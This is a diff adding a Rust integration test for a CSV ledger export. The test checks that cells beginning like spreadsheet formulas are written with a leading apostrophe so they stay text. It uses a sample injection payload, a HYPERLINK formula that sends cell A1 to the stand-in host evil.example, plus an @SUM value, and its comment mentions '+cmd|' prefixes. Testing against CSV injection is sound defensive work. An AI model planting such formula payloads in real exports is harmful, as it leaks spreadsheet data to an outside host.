@@ -500,7 +500,60 @@ async fn departments_keep_their_printed_order(t: TestDb) {
     );
 }
 
+/// Titles and department names come from lists published outside: in ledger.csv one that
+/// begins like a formula (`=HYPERLINK(…)`, `+cmd|…`, `-…`, `@…`) is written as text, with a
+/// leading apostrophe, so that Excel shows it instead of evaluating it.
+async fn formulas_in_the_csv_are_written_as_text(t: TestDb) {
+    let (app, list) = prepared(&t).await;
+    let item = support::item_id(&app, "城市书房").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"点我")"#;
+    let edited = app
+        .graphql_as(
+            Some(ADMIN_TOKEN),
+            "mutation($id: ID!, $t: String!) { updateItem(itemId: $id, input: { title: $t }) { title } }",
+            json!({ "id": item, "t": formula }),
+        )
+        .await;
+    assert_eq!(edited["data"]["updateItem"]["title"], formula, "{edited}");
+    let department = department_id(&app, "市教育局").await;
+    let renamed = app
+        .graphql_as(
+            Some(ADMIN_TOKEN),
+            "mutation($id: ID!) { renameDepartment(departmentId: $id, name: \"@SUM(1+1)教育局\") { name } }",
+            json!({ "id": department }),
+        )
+        .await;
+    assert!(renamed["errors"].is_null(), "{renamed}");
+    let csv = app
+        .client
+        .get(app.url(&format!(
+            "/export/ledger.csv?listId={}",
+            list.as_str().expect("an ID")
+        )))
+        .bearer_auth(ADMIN_TOKEN)
+        .send()
+        .await
+        .expect("download");
+    assert_eq!(csv.status(), 200);
+    let body = csv.text().await.expect("text");
+    assert!(
+        body.contains(r#"'=HYPERLINK(""http://evil.example"#),
+        "{body}"
+    );
+    assert!(body.contains("'@SUM(1+1)教育局"), "{body}");
+    for evaluated in [
+        r#""=HYPERLINK"#,
+        ",=HYPERLINK",
+        ",@SUM",
+        "\n@SUM",
+        ",\"@SUM",
+    ] {
+        assert!(!body.contains(evaluated), "{evaluated} in {body}");
+    }
+}
+
 backend_tests!(
+    formulas_in_the_csv_are_written_as_text,
     departments_keep_their_printed_order,
     the_seed_exports_one_row_per_item,
     the_cli_writes_the_ledger_as_xlsx_and_csv,
